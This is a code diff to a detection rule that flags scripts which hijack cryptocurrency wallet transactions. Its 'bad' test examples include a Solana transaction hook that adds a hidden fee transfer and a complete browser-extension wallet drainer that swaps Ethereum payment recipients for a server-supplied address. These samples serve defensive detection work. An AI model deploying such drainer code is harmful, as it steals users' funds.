@@ -12,7 +12,7 @@ import {
 } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
-import { mentions, textsOf } from './network.ts';
+import { isSentByServer, isToldOfServer, mentions, textsOf } from './network.ts';
 import { pathsInSlice, backwardSlice } from './backwardSlice.ts';
 import { runsInPages } from './places.ts';
 import { first, functionOf, itemsOf } from './usage.ts';
@@ -84,9 +84,8 @@ export const walletRequestsChanged = defineRule({
         .filter(({ text }) => ADDRESS.test(text) && !NOBODY.test(text))
         .map(({ value }) => value),
     );
-    if (own.size === 0) return;
     const names = new Set([...own].map((value) => constant(script, value)));
-    for (const value of receivers(script)) {
+    for (const value of own.size === 0 ? [] : receivers(script)) {
       const origins = backwardSlice(script, value);
       const mine = [...origins].find((one) => own.has(one) || names.has(constant(script, one)));
       if (mine === undefined) continue;
@@ -96,6 +95,10 @@ export const walletRequestsChanged = defineRule({
       });
       return;
     }
+    // The receiver that a server names, on whatever way it gets into the page.
+    const named = mentions(script, WALLET) ? [...receivers(script, RECEIVERS)] : [];
+    const told = named.find((value) => isSentByServer(facts, script, value) || isToldOfServer(facts, script, value));
+    if (told !== undefined) yield hit(told, { message: say('wallet-method-recipient', replaced) });
   }),
   examples: {
     bad: [
@@ -120,6 +123,18 @@ export const walletRequestsChanged = defineRule({
       contentExample(
         'const fee = "BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"; const w = window.solana; const old = w.signTransaction.bind(w); const add = (tx) => { tx.add(SystemProgram.transfer({ fromPubkey: w.publicKey, toPubkey: new PublicKey(fee), lamports: 1300000 })); return tx; }; Object.assign(w, { signTransaction: (tx) => old(add(tx)) });',
       ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["<all_urls>"], "js": ["bridge.js"]}]}',
+          'background.js':
+            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://fees.example/now").then((r) => r.json()).then(reply); return true; });',
+          'bridge.js':
+            'chrome.runtime.sendMessage("fees", (r) => window.postMessage({ fees: r.fees, hint: r.hint }, location.origin));',
+          'page.js':
+            'const live = { hint: null }; window.addEventListener("message", (e) => { if (e.source === window && e.data.fees) Object.assign(live, e.data); }); const swap = (tx) => (live.hint ? { ...tx, to: live.hint.dest } : tx); const dress = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k !== "request" ? v : (a) => v.call(t, a.method === "eth_sendTransaction" ? { ...a, params: a.params.map(swap) } : a); } }); let inner; Object.defineProperty(window, "ethereum", { get: () => inner, set: (p) => { inner = dress(p); } });',
+        },
+      },
     ],
     good: [
       contentExample(
@@ -167,24 +182,13 @@ function wrapped(script: ScriptFacts): string | undefined {
   return textsOf(script).find(({ text }) => METHODS.includes(text))?.text;
 }
 
+/** Properties that say who gets a payment, and those that may also be the sender's. */
+const RECEIVERS = ['to', 'toPubkey', 'recipient', 'destination', 'spender', 'toAddress', 'to_address'];
+const MAYBE_RECEIVERS = [...RECEIVERS, 'address', 'withdrawAddress', 'wallet'];
+
 /** Values that become the receiver of a payment. */
-function* receivers(script: ScriptFacts): Generator<number> {
-  for (const write of first(
-    writesOf(
-      script,
-      'to',
-      'toPubkey',
-      'recipient',
-      'destination',
-      'spender',
-      'address',
-      'toAddress',
-      'to_address',
-      'withdrawAddress',
-      'wallet',
-    ),
-  ))
-    yield write.value;
+function* receivers(script: ScriptFacts, names: readonly string[] = MAYBE_RECEIVERS): Generator<number> {
+  for (const write of first(writesOf(script, ...names))) yield write.value;
   for (let value = 1, seen = 0; value < script.op.length && seen < 2000; value++) {
     if (script.op[value] !== Op.object) continue;
     seen++;
